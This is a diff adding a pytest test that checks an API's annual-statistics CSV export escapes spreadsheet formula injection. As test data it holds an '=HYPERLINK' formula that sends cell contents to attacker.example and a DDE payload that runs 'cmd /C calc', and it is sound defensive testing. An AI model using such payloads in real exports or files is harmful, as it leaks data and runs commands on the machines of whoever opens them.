@@ -8,7 +8,7 @@ from typing import Any
 import httpx
 import pytest
 
-from tests.factories import World
+from tests.factories import World, situation_body
 from tests.helpers import assert_problem
 
 URL = "/api/v1/statistics/annual"
@@ -252,3 +252,67 @@ async def test_wrong_role_and_bad_input(client: httpx.AsyncClient, world: World)
         f"{URL}/2025", params={"suppress_below": 0}, headers=world.reporter.headers
     )
     assert_problem(bad, 422, field="suppress_below")
+
+
+async def test_no_cell_of_the_csv_runs_as_a_formula(
+    client: httpx.AsyncClient, world: World
+) -> None:
+    """Names typed into the register come back as text, whatever a spreadsheet makes of them."""
+    hostile = {
+        "organisation": '=HYPERLINK("http://attacker.example/?d="&A1,"open")',
+        "authority": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "tab": "\t=1+2",
+        "carriage return": "\r=1+2",
+        "plus": "+33 1 23 45 67 89",
+        "minus": "-2+3",
+    }
+    created = await client.post(
+        "/api/v1/organisations",
+        json={"code": "evil", "name": hostile["organisation"]},
+        headers=world.admin.headers,
+    )
+    assert created.status_code == 201, created.text
+    added = await client.post(
+        "/api/v1/reference/authorities",
+        json={
+            "code": "evil",
+            **{f"label_{lang}": hostile["authority"] for lang in ["fr", "en", "de"]},
+        },
+        headers=world.admin.headers,
+    )
+    assert added.status_code == 201, added.text
+    for name in ("tab", "carriage return", "plus", "minus"):
+        code = f"x{len(name)}{name[0]}"
+        named = await client.post(
+            "/api/v1/organisations",
+            json={"code": code, "name": hostile[name]},
+            headers=world.admin.headers,
+        )
+        assert named.status_code == 201, (name, named.text)
+        situation = await client.post(
+            "/api/v1/situations",
+            json=situation_body(organisation=code),
+            headers=world.delegate.headers,
+        )
+        assert situation.status_code == 201, situation.text
+    situation = await client.post(
+        "/api/v1/situations",
+        json=situation_body(organisation="EVIL", severity="red"),
+        headers=world.delegate.headers,
+    )
+    reported = await client.post(
+        f"/api/v1/situations/{situation.json()['id']}/reports",
+        json={"decision": "reported", "authority": "evil", "decided_on": "2026-03-20"},
+        headers=world.delegate.headers,
+    )
+    assert reported.status_code == 201, reported.text
+    response = await client.get(
+        f"{URL}/2026", params={"format": "csv"}, headers=world.reporter.headers
+    )
+    assert response.status_code == 200
+    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+        assert not cell.startswith("-") or cell.replace(".", "").lstrip("-").isdigit(), cell
+    for text in hostile.values():  # names may have been stripped of blanks when entered
+        assert f"'{text}" in cells or f"'{text.strip()}" in cells, text
